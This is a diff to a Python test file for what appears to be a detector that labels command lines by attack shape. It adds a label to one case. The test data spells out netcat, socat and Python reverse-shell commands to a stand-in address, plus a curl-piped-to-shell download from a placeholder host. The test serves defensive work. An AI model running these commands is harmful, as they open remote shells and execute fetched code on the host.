@@ -78,7 +78,7 @@ def test_errors_name_file_line_and_field(text, expected):
     (["/usr/bin/nc", "203.0.113.9", "4444", "-e", "/bin/sh"], {"reverse-shell-netcat"}),
     (["/usr/bin/socat", "TCP:203.0.113.9:4444", "EXEC:/bin/sh,pty"], {"reverse-shell-netcat"}),
     (["/usr/bin/python3", "-c", "import socket,os,pty;s=socket.socket();s.connect(('h',1));os.dup2(s.fileno(),0)"],
-     {"reverse-shell-oneliner"}),
+     {"reverse-shell-oneliner", "socket-wired-to-shell-in-code"}),     # the latter whatever the spelling
     (["/bin/sh", "-c", "curl -s http://x.example/i.sh | sh"], {"download-piped-to-shell"}),
 ])
 def test_attack_shapes_match(builtin, argv, expected):
